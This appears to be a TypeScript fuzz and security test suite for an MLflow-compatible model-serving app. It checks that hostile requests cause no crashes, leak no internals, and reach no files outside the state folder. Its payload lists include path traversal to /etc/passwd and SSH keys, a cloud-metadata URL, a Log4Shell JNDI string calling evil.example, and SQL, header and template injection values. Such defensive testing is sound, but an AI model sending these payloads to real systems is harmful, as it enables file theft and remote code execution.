import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestApp, type TestApp } from '../../src/app/testing.ts';
import { registerModel } from '../../src/capabilities/registry/contract.ts';
import { deploy, putEndpoint } from '../../src/capabilities/serving/contract.ts';
import { packageFolder } from '../../src/app/program.ts';
import { versionModel } from '../onnx-model.ts';
import { filled, registeredRoutes, type RegisteredRoute } from './registered-routes.ts';

/**
 * Every route the router has, MLflow's and V2's included, with what nobody should send: none fails,
 * none tells of its insides, and nothing outside the state folder is read or written.
 */

const MINUTES_3 = 180_000;
/** Lies beside the state folder, where no request may reach. */
const OUTSIDE = 'words-of-a-file-outside';

let folder: string;
let app: TestApp;
let routes: readonly RegisteredRoute[];
let runId: string;

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'mw-hostile-'));
  await writeFile(path.join(folder, 'outside.txt'), OUTSIDE);
  const stateFolder = path.join(folder, 'state');
  await mkdir(stateFolder);
  app = await createTestApp({ stateFolder });
  routes = registeredRoutes(app.app.http).filter(({ path: at }) => at !== '/api/v1/events/stream');
  const bytes = versionModel({ version: 1 });
  await app.api.call(registerModel, { params: { model: 'late' }, query: {} }, { bytes });
  const params = { endpoint: 'late' };
  await app.api.call(putEndpoint, { params, body: { model: 'late', key: 'flight' } });
  await app.api.call(deploy, { params, body: { version: 1 } });
  const created = await send('POST', '/api/2.0/mlflow/runs/create', {
    body: JSON.stringify({ experiment_id: '0', start_time: 1 }),
  });
  ({
    run: {
      info: { run_id: runId },
    },
  } = JSON.parse(created.text) as { run: { info: { run_id: string } } });
  await send('PUT', `/api/2.0/mlflow-artifacts/artifacts/0/${runId}/artifacts/a.txt`, {
    body: 'of the run',
    type: 'application/octet-stream',
  });
});

afterAll(async () => {
  await app[Symbol.asyncDispose]();
  expect((await readdir(folder)).toSorted(), 'nothing was written outside').toEqual([
    'outside.txt',
    'state',
  ]);
  await rm(folder, { recursive: true, force: true });
});

interface Received {
  readonly status: number;
  readonly text: string;
}

async function send(
  method: string,
  url: string,
  more: { readonly body?: string; readonly type?: string } = {},
): Promise<Received> {
  const { body, type = 'application/json' } = more;
  const reply = await app.app.http.inject({
    method: method as 'GET',
    url,
    headers: { host: '127.0.0.1', ...(body === undefined ? {} : { 'content-type': type }) },
    ...(body === undefined ? {} : { payload: body }),
  });
  return { status: reply.statusCode, text: reply.body };
}

/** Not ours to fail at (501: it is known what was asked, and not done here). */
function expectHarmless({ status, text }: Received, what: string): void {
  const shown = `${what.slice(0, 300)}: ${status} ${text.slice(0, 500)}`;
  expect(status < 500 || status === 501, shown).toBe(true);
  expect(text, shown).not.toContain(OUTSIDE);
  if (status < 400) return;
  // Neither a stack, nor where the program lies.
  expect(text, shown).not.toMatch(/\n\s+at |node_modules|\.ts:\d|\.js:\d/);
  expect(text, shown).not.toContain(packageFolder);
}

/** With its beginning, for the name of a test. */
function titled(text: string): readonly [string, string] {
  return [JSON.stringify(text.slice(0, 40)), text];
}

const PLACES = [
  '../outside.txt',
  '../../../../../../../../etc/passwd',
  '..%2f..%2foutside.txt',
  '%2e%2e/%2e%2e/outside.txt',
  '..%252f..%252foutside.txt',
  '..\\..\\outside.txt',
  '....//....//outside.txt',
  '/etc/passwd',
  '//etc/passwd',
  '.',
  '..',
  '~/.ssh/id_rsa',
  'a/./../../outside.txt',
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'FILE:/etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'mlflow-artifacts:/../../outside.txt',
  'mlflow-artifacts://evil.example/../../outside.txt',
  'runs:/../../outside.txt',
  'models:/late/../../x',
  's3://bucket/../../x',
  'dbfs:/../outside.txt',
  'C:\\Windows\\win.ini',
  'a\u0000b',
  'a%00b',
  'a\r\nset-cookie: x=1',
  '\u202egnp.exe',
  '\ud800',
  '\ufeff',
  'ａ／．．／ｂ',
  '💥'.repeat(100),
  '__proto__',
  'constructor',
  "x'; drop table events; --",
  'x" or 1=1',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '%',
  '%ff',
  '-1',
  '1e999',
  '9'.repeat(400),
  'a'.repeat(20_000),
] as const;

test.each(PLACES.map(titled))('in a path, %s harms no route', async (_, place) => {
  // As it is, as far as a request line can hold it, and encoded.
  const raw = Array.from(place, (char) => (/[!-~]/.test(char) ? char : encoded(char))).join('');
  for (const name of new Set([raw, encoded(place)])) {
    for (const { method, path: at } of routes.filter((it) => filled(it.path) !== it.path)) {
      const url = filled(at, () => name);
      expectHarmless(await send(method, url), `${method} ${url}`);
      if (method === 'GET') continue;
      expectHarmless(await send(method, url, { body: '{}' }), `${method} ${url} {}`);
    }
  }
});

/** Half a character has no encoding; it is sent as the bytes it would be. */
function encoded(text: string): string {
  return text.isWellFormed() ? encodeURIComponent(text) : '%ed%a0%80';
}

const QUERIES = [
  'path',
  'limit',
  'cursor',
  'run_id',
  'experiment_id',
  'name',
  'version',
  'filter',
  'max_results',
  'page_token',
  'subject',
  'at',
  'from',
] as const;

test.each(['=1&=2', '[]=1', '[a]=1', '[__proto__]=1', '=%00', '=..%2f..%2foutside.txt', '='])(
  'parameters written %s harm no route',
  async (form) => {
    // Values of described parameters are another test's.
    const isRepeated = form === '=1&=2';
    const asked = routes.filter(
      (it) => it.method === 'GET' && (isRepeated || !it.path.startsWith('/api/v1/')),
    );
    for (const { method, path: at } of asked) {
      for (const name of QUERIES) {
        const [first, second] = form.split('&') as [string, string | undefined];
        const query = `${name}${first}${second === undefined ? '' : `&${name}${second}`}`;
        const url = `${filled(at)}?${query}`;
        expectHarmless(await send(method, url), `${method} ${url}`);
      }
    }
  },
);

const FIELDS = [
  'experiment_id',
  'experiment_ids',
  'experiment_name',
  'artifact_location',
  'run_id',
  'run_uuid',
  'run_name',
  'status',
  'start_time',
  'end_time',
  'key',
  'value',
  'timestamp',
  'step',
  'metrics',
  'params',
  'tags',
  'datasets',
  'models',
  'model_json',
  'model_id',
  'model_type',
  'source',
  'source_run_id',
  'run_link',
  'name',
  'new_name',
  'version',
  'stage',
  'alias',
  'description',
  'path',
  'filter',
  'order_by',
  'max_results',
  'page_token',
  'view_type',
  'run_view_type',
  'metric_key',
  'run_ids',
] as const;

const nested = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);

/** JSON of values, so that there may be some that no JavaScript value writes. */
const hostileJson = fc.oneof(
  fc.constantFrom(...PLACES).map((place) => JSON.stringify(place)),
  fc.constantFrom('null', 'true', '-1', '0', '1e999', '1e308', '-0', '9007199254740993', '1.5'),
  fc.constantFrom('[]', '{}', '[null]', '[[]]', '[{}]', '{"__proto__":{"x":1}}', nested(40)),
  fc.constantFrom(`"${'x'.repeat(100_000)}"`, `[${'1,'.repeat(50_000)}1]`, nested(5000)),
  fc.constantFrom('[{"key":null,"value":null}]', '[{"key":"../x","value":1e999,"step":1e30}]'),
  fc.jsonValue().map((value) => JSON.stringify(value)),
  fc.string({ unit: 'binary' }).map((text) => JSON.stringify(text)),
);

/** What lets a message get beyond the first look. */
const plausibleJson = fc.oneof(
  fc.constantFrom('"0"', '"late"', '"1"', '1', '"FINISHED"', '["0"]', '"metrics.auc > 0"'),
  fc.constant(null).map(() => JSON.stringify(runId)),
);

const message = fc
  .dictionary(fc.constantFrom(...FIELDS), fc.oneof(hostileJson, plausibleJson), { maxKeys: 8 })
  .map((fields) =>
    Object.entries(fields)
      .map(([key, json]) => `${JSON.stringify(key)}:${json}`)
      .join(','),
  )
  .map((inner) => `{${inner}}`);

describe('MLflow messages', () => {
  test(
    'of any fields with any values harm neither prefix',
    async () => {
      const calls = routes.filter(({ path: at }) => /^\/(ajax-)?api\/[23]\.0\/mlflow\//.test(at));
      expect(calls.length).toBeGreaterThan(100);
      for (const { method, path: at } of calls) {
        await fc.assert(
          fc.asyncProperty(message, async (body) => {
            const url = filled(at, () => runId);
            const sent = method === 'GET' ? {} : { body };
            expectHarmless(await send(method, url, sent), `${method} ${url} ${body}`);
          }),
          { numRuns: 15 },
        );
      }
    },
    MINUTES_3,
  );

  test.each([
    ['as text twice', JSON.stringify(JSON.stringify({ experiment_id: '0' }))],
    ['as an array', '[]'],
    ['as nothing', ''],
    ['half of it', '{"experiment_id":'],
    ['deep as a well', nested(500_000)],
    ['as bytes that are no text', '\u0000\u0001\uffff'],
    ['beyond its limit', `{"name":"${'x'.repeat(5_000_000)}"}`],
  ])('%s harm none', async (_, body) => {
    for (const { method, path: at } of routes.filter((it) => it.method !== 'GET')) {
      const others = ['text/plain', 'application/x-www-form-urlencoded'];
      for (const type of ['application/json', ...(body.length > 1000 ? [] : others)]) {
        expectHarmless(await send(method, filled(at), { body, type }), `${method} ${at} ${type}`);
      }
    }
  });

  const SOURCES = PLACES.filter((place) => place.isWellFormed());

  test.each(SOURCES.map(titled))('never read or list %s as artifacts', async (_, place) => {
    const create = { name: `e-${SOURCES.indexOf(place)}`, artifact_location: place };
    const made = await send('POST', '/api/2.0/mlflow/experiments/create', {
      body: JSON.stringify(create),
    });
    expectHarmless(made, place);
    const { experiment_id: id } = JSON.parse(made.text) as { experiment_id?: string };
    if (id !== undefined) {
      const run = await send('POST', '/api/2.0/mlflow/runs/create', {
        body: JSON.stringify({ experiment_id: id, start_time: 1 }),
      });
      const info = (JSON.parse(run.text) as { run?: { info: { run_id: string } } }).run?.info;
      const at = `run_id=${info?.run_id}&path=${encodeURIComponent(place)}`;
      expectHarmless(await send('GET', `/api/2.0/mlflow/artifacts/list?${at}`), place);
      const native = `/api/v1/runs/run_${info?.run_id}/artifact?path=outside.txt`;
      expect((await send('GET', native)).status).toBeGreaterThanOrEqual(400);
    }
    const source = { name: 'late', source: place };
    const version = { body: JSON.stringify(source) };
    expectHarmless(await send('POST', '/api/2.0/mlflow/model-versions/create', version), place);
    const file = `/api/v1/runs/run_${runId}/artifact?path=${encodeURIComponent(place)}`;
    expect((await send('GET', file)).status, place).toBeGreaterThanOrEqual(400);
  });
});

test('afterwards everything works as before', async () => {
  const file = `/api/v1/runs/run_${runId}/artifact?path=a.txt`;
  expect(await send('GET', file)).toEqual({ status: 200, text: 'of the run' });
  const body = '{"inputs":[{"name":"x","datatype":"FP32","shape":[1,3],"data":[1,2,3]}]}';
  expect((await send('POST', '/v2/models/late/infer', { body })).status).toBe(200);
  expect(JSON.parse((await send('GET', '/health')).text)).toMatchObject({ status: 'ok' });
  expect(Object.keys(Object.prototype)).toEqual([]);
});
